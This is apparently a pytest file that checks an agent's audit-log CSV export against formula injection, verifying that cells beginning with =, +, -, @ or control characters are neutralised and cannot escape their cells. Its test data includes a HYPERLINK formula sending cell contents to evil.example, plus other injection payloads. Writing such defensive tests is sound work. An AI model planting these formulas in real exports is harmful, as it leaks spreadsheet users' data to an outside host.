import csv
from typing import Any

import pytest

from agent.entrypoints.cli.audit import COLUMNS, table

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'


def entry(text: str, **event: Any) -> dict[str, Any]:
    said = {"type": "parked", "incident": "inc-1", "actor": "agent", "text": text, **event}
    return {"sequence": 7, "at": "2026-11-22T03:00:00Z", "hash": "h7", "previous": "h6", "event": said}


def cells(text: str, **event: Any) -> dict[str, str]:
    [row] = csv.DictReader(table([entry(text, **event)]))
    return row


def test_an_entry_is_a_row_below_the_names_of_the_columns() -> None:
    lines = list(table([entry("handed to a human"), entry("and again")]))
    assert len(lines) == 3
    assert lines[0] == ",".join(COLUMNS) + "\n"
    assert cells('a, "b"')["text"] == 'a, "b"'


@pytest.mark.attack("S58")
@pytest.mark.parametrize("text", [FORMULA, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1"])
def test_no_cell_begins_a_formula(text: str) -> None:
    row = cells(text, actor=text)
    assert [row["text"][0], row["actor"][0]] == ["'", "'"]


@pytest.mark.attack("S58")
def test_a_formula_behind_a_separator_or_a_line_end_stays_in_its_cell() -> None:
    assert cells(f"a,{FORMULA}")["text"] == f"a,{FORMULA}"
    assert cells(f'a"\n{FORMULA}')["sequence"] == "7"


@pytest.mark.attack("S58")
def test_a_formula_is_none_where_cells_are_parted_at_semicolons() -> None:
    """As spreadsheets do where the comma is the decimal sign."""
    lines = table([entry(f'a; {FORMULA};@SUM(A1);-1;"=1')])
    parted = [cell for row in csv.reader(lines, delimiter=";") for cell in row]
    assert [cell for cell in parted if cell.strip().startswith(("=", "+", "-", "@"))] == []
